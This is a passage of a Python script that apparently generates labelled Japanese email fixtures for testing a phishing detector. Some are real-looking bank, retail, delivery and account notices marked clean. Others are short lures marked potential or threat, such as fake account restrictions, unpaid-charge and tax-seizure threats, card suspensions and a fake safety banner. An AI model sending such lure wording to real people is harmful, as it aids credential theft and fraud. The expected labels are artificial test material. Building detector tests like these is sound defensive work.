        "TEL: 03-5555-0123\n"
        "問い合わせ先: northwind-coffee@shop.rakuten.co.jp\n\n"
        "楽天グループ株式会社\n〒158-0094 東京都世田谷区玉川一丁目14番1号\n"
        "https://www.rakuten.co.jp/\n")
    write("ja-11-clean-rakuten-order-jis.eml",
          eop_pass("rakuten.co.jp", "133.237.16.20")
          .encode() + jheaders("楽天市場", "order@rakuten.co.jp",
                   "【楽天市場】注文内容ご確認（自動配信メール）").encode() +
          jis_plain(text), "clean")

    # ヤマト運輸's delivery notice, the mail its imitators copy.
    text = (
        "山田 太郎様\n\nいつもクロネコヤマトをご利用いただきありがとうござい"
        "ます。\nお荷物のお届け予定をお知らせします。\n\n■お届け予定日時\n"
        "　11月03日 14時～16時\n\n■送り状番号\n　4567-8901-2345\n\n"
        "■ご依頼主\n　ノースウインド珈琲店 様\n\n"
        "■お届け予定日時の変更はこちら\n"
        "https://toi.kuronekoyamato.co.jp/cgi-bin/tneko?type=1&no01="
        "456789012345&id=Kz8Q2mX4\n\n"
        "お受け取り日時・場所の変更は、クロネコメンバーズにご登録いただくと"
        "便利です。\nhttps://cmypage.kuronekoyamato.co.jp/portal/entrance\n"
        "\n※このメールは送信専用です。ご返信いただいてもお答えできません。\n"
        "※本メールにお心当たりのない場合は、お手数ですが破棄してください。\n"
        "\nヤマト運輸株式会社\nhttps://www.kuronekoyamato.co.jp/\n")
    write("ja-12-clean-yamato-delivery-jis.eml",
          eop_pass("kuronekoyamato.co.jp", "210.138.33.77")
          .encode() + jheaders("ヤマト運輸", "mail@kuronekoyamato.co.jp",
                   "お荷物お届けのお知らせ").encode() + jis_plain(text),
          "clean")

    # A bank's login notice: what to do if it was not you (change the
    # password, call the help desk), no link to sign in.
    text = (
        "山田 太郎 様\n\nいつもみずほ銀行をご利用いただき、ありがとうござ"
        "います。\nみずほダイレクトへのログインがありましたのでお知らせし"
        "ます。\n\nログイン日時：2026年11月02日 09時12分\n"
        "ご利用環境：スマートフォンアプリ\n\n"
        "お心当たりのない場合は、至急、みずほダイレクトのログインパスワード"
        "を変更のうえ、下記までご連絡ください。\n\n"
        "みずほダイレクトヘルプデスク\n0120-324-555（平日9:00～21:00）\n\n"
        "【ご注意ください】\nみずほ銀行を装った不審なメールにご注意くださ"
        "い。みずほ銀行からメールでパスワードや暗証番号をお尋ねすることはあ"
        "りません。\n\n※本メールは送信専用のアドレスから送信しています。\n"
        "株式会社みずほ銀行\nhttps://www.mizuhobank.co.jp/\n")
    write("ja-13-clean-bank-login-jis.eml",
          eop_pass("mizuhobank.co.jp", "202.214.158.11")
          .encode() + jheaders("みずほ銀行", "mizuho-direct@mizuhobank.co.jp",
                   "【みずほダイレクト】ログインのお知らせ").encode() +
          jis_plain(text), "clean")

    # The company's own notice, written in Outlook: a deadline, a sign-in
    # to its own portal on its own SharePoint.
    portal = "https://contoso.sharepoint.com/sites/soumu/SitePages/nencho.aspx"
    text = (
        "社員各位\n\n総務部です。今年も年末調整の時期となりました。\n"
        "下記のとおり、社内ポータルから申告書を提出してください。\n\n"
        "提出期限：12月4日（金）17:00\n提出方法：社内ポータル（%s）にログ"
        "インし、「年末調整申告」から入力してください。\n\n"
        "期限までに提出がない場合、年末調整を行えず、ご自身で確定申告が必要"
        "になります。ご注意ください。\n\n不明点は総務部 佐藤（内線 2104）ま"
        "でお問い合わせください。\n\n総務部\n" % portal)
    html = (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:'
        'schemas-microsoft-com:office:office" xmlns:w="urn:schemas-'
        'microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/'
        'office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head>'
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        '<meta name="Generator" content="Microsoft Word 15 (filtered '
        'medium)"><style><!--\n/* Font Definitions */\n@font-face\n\t'
        '{font-family:"Yu Gothic";\n\tpanose-1:2 11 4 0 0 0 0 0 0 0;}\n'
        "p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0mm;\n\t"
        'text-align:justify;\n\tfont-size:10.5pt;\n\tfont-family:"Yu Gothic"'
        ',sans-serif;}\nspan.EmailStyle17\n\t{mso-style-type:personal-'
        "compose;}\n.MsoChpDefault\n\t{mso-style-type:export-only;}\n"
        "@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:99.25pt "
        "30.0mm 30.0mm 30.0mm;}\ndiv.WordSection1\n\t{page:WordSection1;}\n"
        '--></style></head><body lang="JA" link="#0563C1" vlink="#954F72" '
        'style="word-wrap:break-word;text-justify-trim:punctuation"><div '
        'class="WordSection1"><p class="MsoNormal">社員各位<o:p></o:p></p>'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">'
        "総務部です。今年も年末調整の時期となりました。<o:p></o:p></p><p "
        'class="MsoNormal">下記のとおり、社内ポータルから申告書を提出してく'
        'ださい。<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
        '<p class="MsoNormal"><b>提出期限：12月4日（金）17:00</b><o:p></o:p>'
        '</p><p class="MsoNormal">提出方法：<a href="%s">社内ポータル</a>に'
        "ログインし、「年末調整申告」から入力してください。<o:p></o:p></p>"
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">'
        '<span style="color:red">期限までに提出がない場合、年末調整を行えず、'
        "ご自身で確定申告が必要になります。ご注意ください。</span><o:p></o:p>"
        '</p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">'
        "不明点は総務部 佐藤（内線 2104）までお問い合わせください。<o:p>"
        '</o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="'
        'MsoNormal">総務部<o:p></o:p></p></div></body></html>\n' % portal)
    write("ja-14-clean-internal-notice-utf8.eml",
          "X-MS-Exchange-Organization-AuthAs: Internal\n"
          "X-MS-Exchange-Organization-AuthMechanism: 04\n"
          "X-MS-Exchange-Organization-AuthSource: TYCPR01MB8123.jpnprd01."
          "prod.outlook.com\nX-MS-Exchange-Organization-SCL: -1\n" +
          jheaders("総務部", "soumu@contoso.com",
                   "【全社】年末調整申告書の提出のお願い（12/4締切）",
                   "UTF-8") + alt(text, html), "clean")

    # Microsoft's security code in Japanese.
    text = (
        "Microsoft アカウント\n\nセキュリティ コード\n\nMicrosoft アカウ"
        "ント ta*****@contoso.com に対して次のセキュリティ コードを使用し"
        "てください。\n\nセキュリティ コード: 739184\n\nMicrosoft アカウ"
        "ント ta*****@contoso.com に心当たりがない場合は、https://account."
        "live.com/dp?ft=-Kq2mX4zP9Lw7 をクリックしてそのアカウントからメー"
        "ル アドレスを削除できます。\n\nありがとうございます。\nMicrosoft "
        "アカウント チーム\n")
    html = (
        '<html><body><table dir="ltr"><tr><td style="font-family:\'Segoe '
        "UI Semibold', 'Segoe UI Bold', 'Yu Gothic', Meiryo, Arial, sans-"
        'serif; font-size:17px; color:#707070;">Microsoft アカウント</td>'
        '</tr><tr><td style="font-family:\'Segoe UI Light\', \'Yu Gothic\','
        ' Meiryo, sans-serif; font-size:41px; color:#2672ec;">セキュリティ '
        'コード</td></tr><tr><td style="padding-top:25px; font-size:14px; '
        'color:#2a2a2a;">Microsoft アカウント <a href="mailto:ta*****@'
        'contoso.com" style="color:#2672ec; text-decoration:none">ta*****@'
        "contoso.com</a> に対して次のセキュリティ コードを使用してください。"
        '</td></tr><tr><td style="padding-top:25px; font-size:14px;">'
        'セキュリティ コード: <span style="font-weight:bold;">739184</span>'
        '</td></tr><tr><td style="padding-top:25px; font-size:14px;">'
        "Microsoft アカウント ta*****@contoso.com に心当たりがない場合は、"
        '<a href="https://account.live.com/dp?ft=-Kq2mX4zP9Lw7" style="'
        'color:#2672ec; text-decoration:none">ここをクリック</a>してその'
        "アカウントからメール アドレスを削除できます。</td></tr><tr><td "
        'style="padding-top:25px;">ありがとうございます。</td></tr><tr><td>'
        "Microsoft アカウント チーム</td></tr></table></body></html>\n")
    write("ja-15-clean-ms-code-utf8.eml",
          eop_pass("accountprotection.microsoft.com", "40.92.18.73") +
          jheaders("Microsoft アカウント チーム",
                   "account-security-noreply@accountprotection.microsoft."
                   "com", "Microsoft アカウントのセキュリティ コード",
                   "UTF-8") + alt(text, html), "clean")

    # 楽天カード's use notice, the most imitated mail in Japan, real.
    text = (
        "山田 太郎 様\n\n楽天カードをご利用いただきまして、誠にありがとう"
        "ございます。\nお客様のカードご利用内容をお知らせいたします。\n\n"
        "《ご利用内容》\n■利用日: 2026/11/01\n■利用先: ノースウインド珈琲"
        "店\n■利用者: 本人\n■支払方法: 1回\n■利用金額: 4,510 円\n"
        "■支払月: 2026/12\n\n《ご利用内容の確認》\n楽天e-NAVIでご確認いた"
        "だけます。\nhttps://www.rakuten-card.co.jp/e-navi/?l-id=mail_"
        "riyou_navi\n\n※本メールは送信専用です。ご返信いただいてもお答え"
        "できませんのでご了承ください。\n※楽天カードを装った不審なメールに"
        "ご注意ください。\nhttps://www.rakuten-card.co.jp/security/"
        "phishing/\n\n楽天カード株式会社\n〒158-0094 東京都世田谷区玉川一"
        "丁目14番1号\n")
    html = (
        '<html><body style="margin:0"><table width="100%" style="max-width:'
        "600px;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;"
        'font-size:14px;color:#333333"><tr><td style="padding:16px;border-'
        'bottom:2px solid #bf0000"><img src="https://image.rakuten-card.co.'
        'jp/mail/common/logo_rakutencard.png" width="120" alt="楽天カード">'
        '</td></tr><tr><td style="padding:16px">山田 太郎 様<br><br>楽天'
        "カードをご利用いただきまして、誠にありがとうございます。<br>お客様"
        "のカードご利用内容をお知らせいたします。</td></tr><tr><td style=\""
        'padding:16px"><table style="border:1px solid #cccccc;width:100%">'
        "<tr><td>利用日</td><td>2026/11/01</td></tr><tr><td>利用先</td><td>"
        "ノースウインド珈琲店</td></tr><tr><td>利用者</td><td>本人</td></tr>"
        "<tr><td>支払方法</td><td>1回</td></tr><tr><td>利用金額</td><td>"
        "4,510 円</td></tr><tr><td>支払月</td><td>2026/12</td></tr></table>"
        '</td></tr><tr><td style="padding:16px">ご利用内容は<a href="https:'
        '//www.rakuten-card.co.jp/e-navi/?l-id=mail_riyou_navi">楽天e-NAVI'
        '</a>でご確認いただけます。</td></tr><tr><td style="padding:16px;'
        'font-size:12px;color:#666666">※本メールは送信専用です。ご返信いた'
        "だいてもお答えできませんのでご了承ください。<br>※<a href=\"https:"
        '//www.rakuten-card.co.jp/security/phishing/">楽天カードを装った不'
        "審なメールにご注意ください。</a><br><br>楽天カード株式会社<br>"
        "〒158-0094 東京都世田谷区玉川一丁目14番1号</td></tr></table>"
        "</body></html>\n")
    write("ja-16-clean-rakuten-card-utf8.eml",
          eop_pass("mail.rakuten-card.co.jp", "133.237.16.44") +
          jheaders("楽天カード株式会社", "info@mail.rakuten-card.co.jp",
                   "カード利用のお知らせ(本人ご利用分)", "UTF-8") +
          alt(text, html), "clean")
    # The wording the anti-phishing council quotes: an account limited
    # "for security", and an unpaid charge with legal steps.
    text = ("セキュリティ強化のため、お客様のアカウントを一時的に制限しております。"
            "\n登録情報の確認をお願いいたします。\nhttps://account-kakunin-"
            "center.example/jp\n")
    write("ja-19-cred-restricted-utf8.eml",
          jheaders("アカウントサポート", "support@account-kakunin-center."
                   "example", "【重要】アカウント利用制限のお知らせ", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n" + text,
          "potential", "content.credential_urgent")
    text = ("お客様の未払い料金についてお知らせします。\nお支払いが確認できません"
            "。支払期限までにお支払いがない場合、法的措置に移行します。\n"
            "https://mibarai-ryokin.example/pay\n")
    write("ja-20-unpaid-charge-utf8.eml",
          jheaders("料金センター", "info@mibarai-ryokin.example",
                   "未払い料金のお知らせ", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n" + text,
          "clean", "content.invoice_lure")
    # A Japanese card brand added from the council's reports.
    write("ja-21-brand-viewcard-utf8.eml",
          jheaders("ビューカード", "info@view-card-kakunin.example",
                   "ご利用確認のお願い", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "カードのご利用内容をご確認ください。\n", "potential",
          "sender.display_brand")
    # More brands the anti-phishing council's reports name: NHK's fee,
    # a card company's points.
    write("ja-22-brand-nhk-utf8.eml",
          jheaders("NHK受信料窓口", "info@nhk-jushinryo.example",
                   "受信料のお支払いについて", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "受信料のお支払いが確認できません。"
          "https://jushinryo-payment.example/nhk\n", "threat",
          "sender.display_brand", "sender.brand_links_elsewhere")
    write("ja-23-clean-ponta-city-utf8.eml",
          jheaders("Ponta Grossa Turismo", "contato@pontagrossa-tur.example",
                   "Roteiro", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "Segue o roteiro: https://pontagrossa-tur.example/roteiro\n",
          "clean", "!sender.display_brand")
    # A service disabled or an account closed unless the reader logs in,
    # and a tax office's "final notice" of seizure, with no brand named:
    # the wording alone.
    write("ja-24-account-disabled-utf8.eml",
          jheaders("サービスセンター", "info@service-center-jp.example",
                   "【重要】サービスの利用停止のお知らせ", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "お客様のサービスは無効になりました。引き続きご利用いただく場合は、"
          "下記のリンクよりログインし、お手続きください。\n"
          "https://service-center-jp.example/login\n", "potential",
          "content.credential_urgent")
    write("ja-25-tax-seizure-utf8.eml",
          jheaders("納税課", "info@nozei-ka.example", "差押最終通知",
                   "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "未払い税金のお知らせ。所得税の納付が確認できておりません。本日中に"
          "納付がない場合、財産の差押えを行います。\n"
          "https://nozei-ka.example/pay\n", "threat",
          "content.legal_threat", "content.invoice_lure")
    # A bank's dealings restricted, a card stopped for suspected misuse:
    # the smishing texts of the council's reports, as mail.
    write("ja-27-bank-restricted-utf8.eml",
          jheaders("ネットバンキング", "info@netbank-kakunin.example",
                   "【重要】お取引を制限しました", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "お客様の口座で不審な取引が確認されたため、お取引を制限しました。"
          "制限を解除するには、以下のURLよりご本人様確認を行ってください。\n"
          "https://netbank-kakunin.example/verify\n", "potential",
          "content.credential_request")
    write("ja-28-card-stopped-utf8.eml",
          jheaders("カード会員サービス", "info@card-member.example",
                   "【緊急】カードのご利用を一時停止しました", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "お客様のカードに不正利用の疑いがあるため、ご利用を一時停止しました。"
          "再開をご希望の場合は、下記よりカード情報をご確認ください。\n"
          "https://card-member.example/confirm\n", "threat",
          "content.credential_urgent")
    # A service's own notice asks to log in too; one such phrase is no
    # lure.
    write("ja-29-clean-app-end-utf8.eml",
          jheaders("家計簿アプリ", "news@kakeibo-app.example",
                   "旧バージョンのサポート終了のお知らせ", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "2026年12月末をもちまして、旧バージョンのアプリはご利用いただけなく"
          "なります。最新版に更新のうえ、ログインしてご利用ください。\n"
          "https://kakeibo-app.example/update\n", "clean",
          "!content.credential_request")
    write("ja-26-clean-saas-login-utf8.eml",
          jheaders("クラウド会計 サポート", "support@cloud-kaikei.example",
                   "請求書発行のお知らせ", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "11月分の請求書を発行しました。マイページにログインし、内容をご確認"
          "ください。\nhttps://cloud-kaikei.example/mypage\n", "clean",
          "!content.credential_request")
    # A safety notice written at the top of the mail, in Japanese.
    write("ja-30-fake-safe-banner-utf8.eml",
          jheaders("メールセンター", "info@mail-hokan.example",
                   "未受信のメールが3件あります", "UTF-8") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "このメールは安全です。\n"
          "未受信のメールが3件あります。以下から確認してください。\n"
          "https://mail-hokan.example/inbox\n", "potential",
          "content.fake_safety_notice")
    # Lead generation in Japanese: exterior painting and solar power
    # with a free quote, through a tracker's link; and a city's own
    # subsidy notice linking to its own site.
    write("ja-31-lead-gaiheki.eml",
          jheaders("住まいの相談窓口", "info@sumai-soudan.example",
                   "【期間限定】外壁塗装の無料見積もり").encode() +
          jis_plain("外壁塗装・屋根塗装、太陽光発電の設置をお考えの方へ。\n"
                    "お住まいの地域の業者から一括見積もりが届きます。\n"
                    "https://lp.lead-match.example/r?c=88"),
          "potential", "content.lead_offer")
    write("ja-32-clean-city-subsidy.eml",
          jheaders("みなと市 環境課", "kankyo@city.minato-shi.example",
                   "太陽光発電の補助金のご案内").encode() +
          jis_plain("市では本年度も太陽光発電と蓄電池の補助金を交付します。\n"
                    "対象かどうかは市のサイトでご確認ください。\n"
                    "https://www.city.minato-shi.example/hojokin"),
          "clean", "!content.lead_offer")
    # Outlook's Japanese header block in a forward (転送:), ISO-2022-JP.
    text = ("確認お願いします。\n\n-----Original Message-----\n"
            "差出人: Amazon カスタマーサービス <info@account-check-jp.example>\n"
            "送信日時: 2026年11月2日 9:12\n宛先: taro.yamada@contoso.com\n"
            "件名: お支払い方法の確認\n\nお支払い方法を確認できませんでした。"
            "\nhttps://payment-check-center.example/jp\n")
    write("ja-18-fwd-outlook-block.eml",
          jheaders("山田 太郎", "taro.yamada@contoso.com",
                   "転送: お支払い方法の確認") +
          'Content-Type: text/plain; charset="ISO-2022-JP"\n'
          "Content-Transfer-Encoding: 7bit\n\n" + jis(text).decode("ascii"),
          "threat", "sender.display_brand")


if __name__ == "__main__":
    main()
